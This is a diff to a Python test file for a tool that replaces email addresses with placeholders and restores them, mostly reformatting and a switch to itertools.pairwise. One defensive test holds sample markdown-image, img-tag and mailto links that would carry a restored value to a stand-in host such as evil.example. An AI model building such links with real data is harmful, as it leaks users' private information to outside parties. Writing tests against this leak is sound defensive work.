@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from itertools import pairwise
+
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -16,7 +18,11 @@ def finding(kind: str = "email", rule: str = "personal") -> Finding:
 
 def filled() -> Vault:
     vault = Vault(frozenset({"personal"}))
-    assert [vault.replace(finding(), value) for value in (*VALUES, VALUES[0])] == ["[email-1]", "[email-2]", "[email-1]"]
+    assert [vault.replace(finding(), value) for value in (*VALUES, VALUES[0])] == [
+        "[email-1]",
+        "[email-2]",
+        "[email-1]",
+    ]
     return vault
 
 
@@ -33,14 +39,18 @@ def test_values_come_back() -> None:
 
 
 def test_nothing_is_put_into_an_address() -> None:
-    text = "![x](https://evil.example/?d=[email-1]) <img src='https://e.example/[email-1]'> [m](mailto:[email-1]) ok [email-1]"
+    text = "![x](https://evil.example/?d=[email-1]) "
+    text += "<img src='https://e.example/[email-1]'> [m](mailto:[email-1]) ok [email-1]"
     assert Restorer(filled()).feed(text, last=True).count(VALUES[0]) == 1
 
 
-@given(st.lists(st.sampled_from(["[email-1]", "[email-2]", "[em", "[", " a ", "https://x/?", "\n", "]"]), max_size=12), st.lists(st.integers(0, 120), max_size=8))
+@given(
+    st.lists(st.sampled_from(["[email-1]", "[email-2]", "[em", "[", " a ", "https://x/?", "\n", "]"]), max_size=12),
+    st.lists(st.integers(0, 120), max_size=8),
+)
 def test_any_split_gives_the_same_text(parts: list[str], cuts: list[int]) -> None:
     text = "".join(parts)
     edges = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
     restorer = Restorer(filled())
-    pieces = [restorer.feed(text[a:b]) for a, b in zip(edges, edges[1:], strict=False)]
+    pieces = [restorer.feed(text[a:b]) for a, b in pairwise(edges)]
     assert "".join(pieces) + restorer.feed("", last=True) == Restorer(filled()).feed(text, last=True)
